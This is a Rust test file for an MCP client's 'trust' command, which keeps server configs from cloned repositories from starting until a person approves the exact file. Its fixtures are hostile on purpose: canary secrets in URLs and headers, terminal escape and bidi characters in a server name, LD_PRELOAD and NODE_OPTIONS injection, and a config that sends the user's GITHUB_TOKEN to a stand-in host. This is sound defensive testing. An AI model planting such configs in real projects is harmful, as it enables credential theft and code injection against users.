//! `colibri trust`: nothing that was cloned starts before a person has seen it.

use std::fs;

use serde_json::{Value, json};

use super::{Ran, SERVER, check, run};
use crate::hostile::child::{Colibri, Home};
use crate::support::terminal::at_terminal;

/// A cloned folder with a server that has something to hide.
fn cloned(home: &Home) -> String {
    let server = json!({ "command": "sh", "args": ["-c", SERVER], "env": { "SECRET": "c4n4ry" } });
    let odd = json!({
        "url": "https://u:c4n4ry@h.example/mcp?k=c4n4ry",
        "headers": { "X-Key": "c4n4ry", "X-Home": "${HOME_TOKEN:-c4n4ry}" },
        "oauth": { "clientId": "me", "clientSecret": "${HOME_TOKEN:-c4n4ry}", "grant": "clientCredentials" },
    });
    let text = json!({ "mcpServers": { "shell": server, "o\u{202e}dd\u{1b}[2J": odd } }).to_string();
    let path = home.path().join("work/.mcp.json");
    fs::write(&path, &text).unwrap();
    path.to_str().unwrap().to_owned()
}

fn assert_shows_what_it_starts(ran: &Ran) {
    for word in [
        "  shell\n",
        "    starts   sh -c '",
        "SECRET (values are not shown)",
        "X-Key",
        "reaches  https://h.example/mcp?…",
        "fills in your HOME_TOKEN: headers.X-Home, oauth.clientSecret",
        r#"signs in {"clientId":"me","clientSecret":"(not shown)","grant":"clientCredentials"}"#,
    ] {
        assert!(ran.stdout.contains(word), "{word:?}: {ran:?}");
    }
    assert!(ran.stdout.contains(r"o\u{202e}dd\u{1b}[2J"), "{ran:?}");
    assert!(!format!("{ran:?}").contains("c4n4ry") && !ran.stdout.contains('\u{1b}'), "{ran:?}");
}

/// A cloned repository must not run anything, until somebody says so, about these very bytes.
#[test]
fn a_found_file_starts_something_once_it_is_trusted() {
    let home = Home::new();
    let path = cloned(&home);
    let told = format!("is not trusted: colibri trust {path}");
    check(&home, &[(&["probe", "shell"], 7, "", &told)]);
    // Nobody can be asked, so nothing is trusted.
    let looked = run(&home, &["trust"]);
    assert_shows_what_it_starts(&looked);
    assert!(
        looked.code == 2 && looked.stderr.contains("nothing was trusted") && looked.stderr.contains("--yes"),
        "{looked:?}"
    );
    check(&home, &[(&["trust", "--list"], 0, "no file is trusted", "")]);
    let trusted = run(&home, &["trust", "--yes"]);
    assert_shows_what_it_starts(&trusted);
    assert!(trusted.code == 0 && trusted.stdout.ends_with(&format!("trusted {path}\n")), "{trusted:?}");
    check(
        &home,
        &[
            (&["call", "--server", "shell", "echo", "--json"], 0, "heard", ""),
            (&["trust"], 0, "nothing here that waits for trust", ""),
            (&["trust", "--list"], 0, &path, ""),
        ],
    );
    let changed = fs::read_to_string(&path).unwrap().replace("c4n4ry", "an0th3r");
    fs::write(&path, changed).unwrap();
    let told = format!("changed since it was trusted: colibri trust {path}");
    check(&home, &[(&["probe", "shell"], 7, "", &told), (&["trust", "--list"], 0, "changed", "")]);
    let doctor = run(&home, &["doctor"]);
    assert!(doctor.code == 8 && doctor.stdout.contains(&told), "{doctor:?}");
    let shown = run(&home, &["config", "show"]);
    assert!(shown.stdout.contains(&told) && shown.stderr.contains(&told), "{shown:?}");
    check(
        &home,
        &[
            (&["trust", "-y", ".mcp.json"], 0, "trusted .mcp.json", ""),
            (&["call", "--server", "shell", "echo", "--json"], 0, "heard", ""),
            (&["trust", "--revoke", ".mcp.json"], 0, "no longer trusted: ", ""),
            (&["probe", "shell"], 7, "", "is not trusted: colibri trust"),
            (&["trust", "--revoke", ".mcp.json"], 2, "", "was not trusted; see `colibri trust --list`"),
            (&["trust", "nothing/colibri.json"], 7, "", "cannot be read"),
            (&["trust", "other.json"], 7, "", "only colibri.json and .mcp.json"),
            (&["trust", "--config", "x"], 2, "", "needs no trust"),
        ],
    );
}

/// For machines the same, without a secret; and a file that is gone can still be taken back.
#[test]
fn trust_speaks_json() {
    let home = Home::new();
    let path = cloned(&home);
    let looked = run(&home, &["trust", "--json"]);
    assert_eq!((looked.code, &looked.json()["files"][0]["trusted"]), (2, &json!(false)), "{looked:?}");
    let trusted = run(&home, &["trust", "--json", "--yes"]);
    let file: &Value = &trusted.json()["files"][0];
    assert_eq!((trusted.code, &file["trusted"], &file["path"]), (0, &json!(true), &json!(path)));
    assert_eq!(file["servers"][1]["command"], json!(["sh", "-c", SERVER]));
    assert_eq!(file["servers"][0]["url"], json!("https://h.example/mcp?…"));
    assert!(!trusted.stdout.contains("c4n4ry"), "{trusted:?}");
    let listed = run(&home, &["trust", "--json", "--list"]).json();
    assert_eq!(listed["files"][0]["standing"], "trusted");
    assert_eq!(listed["files"][0]["sha256"], file["sha256"]);
    fs::remove_file(&path).unwrap();
    assert_eq!(run(&home, &["trust", "--json", "--list"]).json()["files"][0]["standing"], "gone");
    let canonical = listed["files"][0]["path"].as_str().unwrap();
    assert_eq!(run(&home, &["trust", "--json", "--revoke", canonical]).json()["revoked"], true);
    fs::write(home.path().join(".local/share/colibri/trusted.json"), "{").unwrap();
    check(&home, &[(&["trust", "--list"], 0, "no file is trusted", "is damaged")]);
}

/// The one who serves says what to type.
#[test]
fn serving_says_how_to_trust() {
    let home = Home::new();
    let path = cloned(&home);
    let mut command = home.command();
    command.arg("serve");
    let mut colibri = Colibri::spawn(home, command);
    colibri.initialize("2025-06-18");
    colibri.end_input();
    colibri.rest();
    let told = format!(
        "[mcp:shell] not started: its file was found in the working directory and is not trusted: colibri trust {path}"
    );
    assert!(colibri.log().contains(&told), "{}", colibri.log());
}

/// At a terminal one is asked, and only a yes is a yes.
#[test]
fn a_person_at_a_terminal_is_asked() {
    for (typed, expected) in [("y", true), ("YES", true), ("n", false), ("", false), ("yep", false)] {
        let home = Home::new();
        cloned(&home);
        let (screen, _) = at_terminal(&home, "trust", &format!("{typed}\n"));
        assert!(screen.contains("Trust this file, as it is now? [y/N]"), "{screen}");
        let listed = run(&home, &["trust", "--list"]);
        assert_eq!(listed.stdout.contains(".mcp.json"), expected, "{typed:?}: {screen}");
    }
}

/// A file that sends your token away, or has a program load something else first, says so before it is trusted: the
/// names of the variables and where they go, and never what is in them.
#[test]
fn what_goes_where_is_seen_before_it_is_trusted() {
    let home = Home::new();
    let loud = json!({
        "command": "sh",
        "args": ["-c", "true", "${AWS_KEY}", "${AWS_KEY}"],
        "env": { "LD_PRELOAD": "./c4n4ry.so", "NODE_OPTIONS": "--require c4n4ry", "FINE": "${AWS_KEY:-c4n4ry}" },
        "cwd": "${userHome}",
    });
    let away = json!({ "url": "https://h.example/${GITHUB_TOKEN}", "bearer_token_env_var": "GITHUB_TOKEN" });
    let text = json!({ "mcpServers": { "loud": loud, "away": away } }).to_string();
    fs::write(home.path().join("work/colibri.json"), text).unwrap();
    let ran = run(&home, &["trust"]);
    for word in [
        "    fills in your AWS_KEY: args, env.FINE\n",
        "    fills in your GITHUB_TOKEN: url, headers.Authorization\n",
        "    CAREFUL  LD_PRELOAD, NODE_OPTIONS: ",
    ] {
        assert!(ran.stdout.contains(word), "{word:?}: {ran:?}");
    }
    assert!(!ran.stdout.contains("c4n4ry") && !ran.stdout.contains("userHome:"), "{ran:?}");
    let told = run(&home, &["trust", "--json"]).json();
    let server = |name: &str| {
        let servers = told["files"][0]["servers"].as_array().unwrap();
        servers.iter().find(|server| server["name"] == name).unwrap().clone()
    };
    assert_eq!(server("loud")["loaders"], json!(["LD_PRELOAD", "NODE_OPTIONS"]));
    assert_eq!(server("away")["variables"], json!({ "GITHUB_TOKEN": ["url", "headers.Authorization"] }));
    assert!(!told.to_string().contains("c4n4ry"), "{told}");
}
